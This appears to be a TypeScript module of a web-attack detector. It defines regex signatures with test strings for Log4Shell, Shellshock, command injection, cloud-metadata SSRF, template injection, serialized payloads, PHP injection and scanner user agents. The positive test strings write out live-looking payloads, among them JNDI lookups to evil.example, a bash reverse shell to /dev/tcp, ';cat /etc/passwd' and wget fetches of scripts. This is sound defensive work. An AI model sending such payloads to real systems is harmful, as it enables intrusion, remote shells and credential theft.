// What attackers send to run code of theirs, and the tools that send it.
import type { Detector } from '../../../core/detector.ts'
import { signature } from './signature.ts'

/** A blank as URLs write it. */
const B = '(?:\\s|\\+|%20|/\\*[^*]{0,20}\\*/)'

export const codeExecution: readonly Detector[] = [
  signature({
    id: 'log4shell',
    severity: 'critical',
    summary: 'Look-ups by JNDI in Log4j, also obfuscated',
    source: 'CVE-2021-44228',
    pattern:
      '(?i:(?:\\$|%24)(?:\\{|%7b)(?:jndi(?::|%3a)(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?)(?::' +
      '|%3a)?[^\\s"\'}]{0,200}\\}?|(?:[^}\\s]{0,20}\\$\\{)?(?:lower|upper|env|sys|date' +
      '|base64)?:[^}\\s]{0,30}\\}[^\\s"]{0,200}(?:\\}|ndi|jndi)|\\$\\{(?:lower|upper|env|sys' +
      '|::)[^\\s"]{0,200}\\}))',
    anchors: [
      '(?i)\\$\\{jndi',
      '(?i)%7bjndi',
      '(?i)\\{jndi',
      '(?i)$\\{lower:',
      '(?i)$\\{upper:',
      '\\$\\{::-',
      '(?i)$\\{env:',
      '(?i)$\\{sys:',
      '(?i)$\\{base64',
      '(?i)$\\{date:',
      '\\$\\{$\\{',
    ],
    yes: [
      'User-Agent: «${jndi:ldap://evil.example/a}»',
      'q=«${jndi:dns://x.example}»&y=1',
      '"«${JNDI:RMI://x.example/b}»"',
      'x=«$%7Bjndi:ldap://x.example/a%7D»',
      '«${${lower:j}ndi:ldap://x.example/a}»',
      'a «${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}»',
    ],
    no: ['jndi is off', '${HOME}', '${java.version}', 'ldap://ldap.example.com', '{jndi}', '${jndi}', '%7Bjson%7D'],
  }),
  signature({
    id: 'shellshock',
    severity: 'critical',
    summary: 'Functions in environment variables that run commands',
    source: 'CVE-2014-6271',
    pattern: '\\(\\)\\s{0,4}\\{\\s{0,4}(?::|_|[a-z]{1,8});\\s{0,4}\\}\\s{0,4};[^\\r\\n"]{1,200}',
    anchors: ['\\(\\) \\{', '\\(\\)\\{'],
    yes: [
      'User-Agent: «() { :; }; /bin/id»',
      '"«() { :;}; echo vulnerable»"',
      'Referer: «() { ignored; }; wget x»',
      'Cookie: «() { :;};curl x»',
      '«(){:;}; /bin/sh -c id»',
      'h=«() { _; }; ping x»\n',
    ],
    no: ['function() { return 1 }', '() => {}', 'f() {', '() {}', 'void main() { x(); }', '(){};'],
  }),
  signature({
    id: 'command_injection',
    severity: 'high',
    summary: 'Commands of a shell where a value should be, and reverse shells',
    source: 'CWE-78; OWASP, command injection',
    pattern:
      `(?i:(?:;|%3b|\\||%7c|&&|%26%26|\\$\\(|%24%28|\\x60|%60)${B}{0,3}(?:cat${B}+/etc|wget${B}+https` +
      `?|curl${B}+(?:-[a-z]+${B}+)?https?|nc${B}+-|bash${B}+-[ic]|sh${B}+-c` +
      `|whoami|uname${B}+-a|ping${B}+-[cn]|powershell)` +
      `|[;|(]id[;)]|/dev/tcp/[0-9a-z.-]{3,60}/[0-9]{1,5}|\\$\\{ifs\\}` +
      `|nc${B}+(?:-[a-z]+${B}+)*-e${B}+/bin|/bin/(?:ba)?sh${B}+-i)`,
    anchors: [
      '(?i)cat /etc',
      '(?i)cat+/etc',
      '(?i)cat%20/e',
      '(?i)wget',
      '(?i)curl',
      '(?i);nc',
      '(?i); nc ',
      '(?i)\\|nc',
      '(?i)\\| nc ',
      '(?i)bash -',
      '(?i)bash+-',
      '(?i)bash%20-',
      '(?i)sh -[ci]',
      '(?i)sh+-[ci]',
      '(?i)sh%20-[ci]',
      '(?i)whoami',
      '(?i)uname -',
      '(?i)uname+-',
      '(?i)uname%20',
      '(?i)[;(|]id[;)]',
      '(?i)ping -[cn]',
      '(?i)ping+-[cn]',
      '(?i)ping%20-',
      '(?i)powershe',
      '/dev/tcp',
      '(?i)\\$\\{ifs}',
      '(?i)-e /bin/',
    ],
    yes: [
      'GET /x?h=1«;cat /etc»/passwd',
      'ip=1.2.3.4«%7Cwhoami»',
      'q=«$(curl http»://x.example/a)',
      'bash -i >& «/dev/tcp/10.0.0.5/4444» 0>&1',
      'f=a«;wget+http»://x.example/m.sh',
      'x«`whoami»`',
      'cmd=cat«${IFS}»/etc/passwd',
    ],
    no: [
      'cat /etc/hosts',
      'curl https://example.com',
      'wget is missing',
      'the ping -c option',
      'run bash -c x',
      'id;name',
      'whoami said root',
      'uname -a',
    ],
  }),
  signature({
    id: 'ssrf_metadata',
    severity: 'high',
    summary: 'Addresses of the metadata services of clouds',
    source: 'CWE-918; documentation of AWS, Google Cloud, Azure and Alibaba Cloud, instance metadata',
    pattern:
      '(?:https?://|//|%2f%2f|%2F%2F|@)(?:169\\.254\\.169\\.254|metadata\\.google\\.internal' +
      '|100\\.100\\.100\\.200|\\[fd00:ec2::254\\]|169\\.254\\.170\\.2|0xa9fea9fe|2852039166)' +
      '(?::[0-9]{1,5})?(?:/[0-9A-Za-z/._-]{0,100})?|latest/meta-data/iam/security-credentials',
    anchors: ['169\\.254\\.1', 'metadata\\.g', '100\\.100\\.1', 'fd00:ec2', '0xa9fea9', '28520391', 'meta-dat'],
    yes: [
      'url=«http://169.254.169.254/latest/meta-data/»&x',
      '«http://metadata.google.internal/computeMetadata/v1/»',
      'u=http%3A«%2F%2F169.254.169.254/»',
      '«http://100.100.100.200/latest»',
      '"«http://[fd00:ec2::254]/latest»"',
      'x=http://a«@169.254.169.254/»',
    ],
    no: [
      '169.254.169.253',
      'address 169.254.169.254',
      'metadata of google',
      'http://10.0.0.1/latest',
      'meta-data is on',
      'http://example.com/metadata',
    ],
  }),
  signature({
    id: 'template_injection',
    severity: 'high',
    summary: 'Expressions of template engines where a value should be',
    source: 'CWE-1336; PortSwigger, server-side template injection',
    pattern:
      '(?:\\{\\{|\\$\\{|#\\{|<%=|\\*\\{|%7B%7B' +
      '|%24%7B)\\s{0,4}[0-9]{1,7}\\s{0,2}\\*\\s{0,2}[\'"]?[0-9]{1,7}|__(?:subclasses|globals)__' +
      '|freemarker\\.template\\.utility\\.Execute|T\\(java\\.lang\\.(?:Runtime' +
      '|ProcessBuilder)\\)' +
      '|@java\\.lang\\.Runtime@getRuntime|class\\.module\\.classLoader|#_memberAccess|ognl\\.OgnlContext',
    anchors: [
      '\\{\\{\\d',
      '\\{\\{ \\d',
      '\\$\\{\\d',
      '#\\{\\d',
      '<%=',
      '\\*\\{\\d',
      '%7B%7B\\d',
      '%24%7B\\d',
      '__subcla',
      '__global',
      'y\\.Execute',
      'T\\(java\\.',
      '@java\\.la',
      'e\\.classLo',
      '#_member',
      'ognl\\.Ogn',
    ],
    yes: [
      'q=«{{7*7»}}',
      'name=«${7*7»}',
      "x={{''.__class__.«__subclasses__»()}}",
      'e=«T(java.lang.Runtime)».getRuntime()',
      '«class.module.classLoader».resources.context=x',
      '"«<%= 7*7» %>"',
    ],
    no: ['{{ name }}', '${HOME}', '{{#if x}}', '<%= name %>', 'java.lang.Runtime', 'class loader', '7*7'],
  }),
  signature({
    id: 'deserialization_payload',
    severity: 'high',
    summary: 'Serialised objects of Java, PHP and .NET in text',
    source: 'CWE-502; OWASP, deserialization cheat sheet',
    pattern:
      'rO0AB[0-9A-Za-z+/]{20,}={0,2}|[Aa][Cc][Ee][Dd]0005[0-9A-Fa-f]{20,}' +
      '|O:[0-9]{1,3}:"[0-9A-Za-z_\\\\]{1,80}":[0-9]{1,3}:\\{[sia]:|AAEAAAD/////[0-9A-Za-z+/]{20,}',
    anchors: ['rO0AB', '(?i)aced0005', 'O:\\d:"', 'O:\\d{2}:"', 'O:\\d{3}:"', 'AAEAAAD/'],
    yes: [
      'data=«rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==»',
      'hex «aced0005737200116a6176612e7574696c»',
      'c=«O:8:"stdClass":1:{s:»1:"x";i:1;}',
      '"«rO0ABXVyABNbTGphdmEubGFuZy5TdHJpbmc»"',
      '«O:21:"JDatabaseDriverMysqli":3:{s:»',
      'v=«AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0»',
    ],
    no: ['rO0ABshort', 'aced0005', 'O:8:"x"', 'HELLO:8:x', 'AAEAAAD/////', 'O:1:2'],
  }),
  signature({
    id: 'php_injection',
    severity: 'high',
    summary: 'Wrappers and code of PHP where a value should be, and web shells',
    source: 'CWE-98, CWE-94; PHP manual, supported protocols and wrappers',
    pattern:
      '(?i:php://(?:input|filter|expect)[^\\s"\'&]{0,100}|expect://[a-z]{2,20}|data://text/plain[;,]' +
      '|data:text/plain;base64,PD9|allow_url_include(?:=|%3d)|auto_prepend_file(?:=|%3d)|eval(?:\\(' +
      '|%28)(?:base64_decode|gzinflate|str_rot13|\\$_(?:get|post|request))|(?:c99|r57|b374k)shell|(?:<' +
      '|%3c)\\?php(?:\\s|%20|\\+))',
    anchors: [
      '(?i)php://',
      '(?i)expect://',
      '(?i)data://t',
      '(?i)base64,PD9',
      '(?i)_url_inc',
      '(?i)_prepend',
      '(?i)eval\\(',
      '(?i)eval%28',
      '(?i)c99shell',
      '(?i)r57shell',
      '(?i)b374k',
      '(?i)\\?php',
    ],
    yes: [
      'page=«php://filter/convert.base64-encode/resource=index»',
      'GET /?x=«php://input»',
      '-d «allow_url_include=»1',
      'x=«eval(base64_decode»("...")',
      'body: «<?php »system($x)',
      'GET /up/«c99shell».php',
    ],
    no: ['php is fine', 'index.php?x=1', 'eval(x)', 'expect 100', 'data:image/png;base64,iVBOR', 'phpunit'],
  }),
  signature({
    id: 'attack_tool',
    severity: 'medium',
    summary: 'Names of scanners and tools of attackers, as in User-Agent',
    source: 'OWASP Core Rule Set, scanners',
    pattern:
      '(?i:sqlmap/[0-9.]+|Nikto/[0-9.]+|Nmap Scripting Engine|masscan/[0-9.]+|zgrab/[0-9.x]+' +
      '|acunetix[-/ ][a-z0-9.-]{2,20}|Nessus(?: SOAP|/[0-9.]+)|DirBuster-[0-9.]+|gobuster/[0-9.]+' +
      '|WPScan v?[0-9.]+|Nuclei - Open-source project|feroxbuster/[0-9.]+|Fuzz Faster U Fool' +
      '|hydra v?[0-9]\\.[0-9]|Metasploit Framework|sekurlsa::logonpasswords|mimikatz(?: [0-9.]+|\\.exe)' +
      '|stratum\\+(?:tcp|ssl)://[^\\s"]{4,100}|xmrig[/ -][0-9.]+)',
    anchors: [
      '(?i)sqlmap/',
      '(?i)nikto/',
      '(?i)nmap scr',
      '(?i)masscan/',
      '(?i)zgrab/',
      '(?i)acunetix',
      '(?i)nessus',
      '(?i)dirbuste',
      '(?i)gobuster',
      '(?i)wpscan ',
      '(?i)nuclei -',
      '(?i)feroxbus',
      '(?i)fuzz fas',
      '(?i)hydra ',
      '(?i)metasplo',
      '(?i)sekurlsa',
      '(?i)mimikatz',
      '(?i)stratum+',
      '(?i)xmrig',
    ],
    yes: [
      'User-Agent: «sqlmap/1.8.4»#stable (https://sqlmap.org)',
      '"Mozilla/5.0 («Nikto/2.5.0»)"',
      '"Mozilla/5.0 (compatible; «Nmap Scripting Engine»; https://nmap.org)"',
      'ua=«masscan/1.3»',
      'connect «stratum+tcp://pool.example:3333»',
      'cmd: «sekurlsa::logonpasswords» full',
    ],
    no: ['the map of sql', 'nmap is installed', 'nuclei of atoms', 'hydra the island', 'nessus', 'xmrig', 'sqlmap'],
  }),
]
